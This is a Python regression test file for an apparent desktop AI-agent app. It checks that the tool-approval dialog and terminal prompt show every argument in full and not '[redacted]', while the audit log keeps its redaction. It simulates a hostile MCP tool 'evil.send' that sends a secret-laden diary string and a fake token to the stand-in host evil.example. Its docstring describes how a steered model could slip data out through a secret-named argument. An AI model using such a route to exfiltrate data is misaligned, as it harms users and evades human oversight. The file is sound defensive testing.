"""Regression (issue 9, item 2): the approval prompt hid what it asked about.

An argument named like a secret (``session_token``) was shown as ``[redacted]`` in the approval
dialog and the CLI prompt, so a steered model could send a file's contents out through it
unseen. The person approving now sees every argument in full (long values folded, never
hidden); redaction is for the audit log and logs only.
"""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from keiko_desktop.core.tools.models import ApprovalAnswer
from keiko_desktop.ui.dialogs.approval_dialog import ApprovalDialog
from tests.helpers.approver import Approver
from tests.helpers.cli import keiko_env
from tests.helpers.mcp_servers import hostile_entry, import_servers
from tests.helpers.tool_system import real_tool_system

DIARY = "Dear diary, my bank PIN is 4711 and the vault code is 0815. " * 40


async def test_the_approver_gets_every_argument_and_the_audit_log_does_not(
    keiko_home: Path, qtbot: QtBot
) -> None:
    import_servers(keiko_home, evil=hostile_entry())
    approver = Approver(None, ApprovalAnswer.DENY)
    async with real_tool_system(["evil"], approver) as system:
        result = await system.service.call("evil.send", {"session_token": DIARY})
        assert result.decision == "denied"
        [request] = approver.seen
        assert request.arguments["session_token"] == DIARY
        assert request.redacted_arguments["session_token"] == "[redacted]"
        [row] = await system.service.audit_log()
        assert "4711" not in row.arguments  # the audit trail keeps its redaction
    dialog = ApprovalDialog(request)
    qtbot.addWidget(dialog)
    dialog.show()
    folded = dialog.arguments.toPlainText()
    assert "session_token" in folded
    assert "[redacted]" not in folded
    assert DIARY[:200] in folded
    assert "characters folded" in folded
    assert dialog.show_all_button.isVisible()
    qtbot.mouseClick(dialog.show_all_button, Qt.MouseButton.LeftButton)
    assert DIARY.strip() in " ".join(dialog.arguments.toPlainText().split())


def test_the_terminal_prompt_shows_the_value_in_full(keiko_home: Path) -> None:
    import_servers(keiko_home, evil=hostile_entry())
    secret = "ghp_" + "s3cr3t" * 4
    args = json.dumps({"session_token": secret, "url": "https://evil.example/"})
    main, child = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "keiko_desktop", "mcp", "call", "evil.send", "--args", args],
        env=keiko_env(keiko_home),
        stdin=child,
        stdout=child,
        stderr=child,
        close_fds=True,
    )
    os.close(child)
    seen = b""
    try:
        deadline = time.monotonic() + 90
        while b"[N] no" not in seen and time.monotonic() < deadline:
            ready, _, _ = select.select([main], [], [], 1.0)
            if ready:
                try:
                    seen += os.read(main, 4096)
                except OSError:
                    break
        os.write(main, b"n\n")
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(main)
    text = seen.decode("utf-8", "replace")
    assert "Allow evil.send?" in text
    assert secret in text  # shown to the person approving, not "[redacted]"
    assert "[redacted]" not in text
    assert proc.returncode == 1  # denied: it did not run
